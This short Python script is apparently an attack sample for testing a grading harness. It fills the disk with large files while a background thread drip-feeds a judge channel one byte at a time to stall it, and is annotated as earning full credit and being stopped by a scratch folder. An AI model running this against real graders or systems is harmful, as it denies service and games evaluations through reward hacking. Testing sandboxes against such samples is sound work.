"""Fills the disk while a thread keeps the judge busy with one byte at a time."""
# earns: all
# stopped by: scratch folder

# %% attack
import os
import struct
import threading
import time

block = bytes(2**20)


def drip():
    os.write(3, struct.pack("!I", 1_000_000))
    while True:
        os.write(3, b"\xc0")
        time.sleep(0.002)


threading.Thread(target=drip, daemon=True).start()
for number in range(100):
    with open(f"file-{number}", "wb") as file:
        for _ in range(16):
            file.write(block)
